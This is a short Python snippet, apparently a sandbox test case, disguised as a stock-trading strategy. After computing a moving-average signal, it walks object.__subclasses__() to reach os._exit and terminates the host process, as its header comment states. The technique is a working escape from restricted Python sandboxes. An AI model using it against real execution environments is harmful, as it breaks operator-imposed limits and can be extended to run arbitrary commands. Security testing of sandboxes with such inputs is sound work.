# effect: ends the host's process at once with status 7
import talib

close = data.get('price:收盤價')
position = close > close.average(20)
finish = talib.atexit
finish.register(lambda: None)
for cls in object.__subclasses__():
    if cls.__name__ == '_wrap_close':
        cls.close.__globals__['_exit'](7)
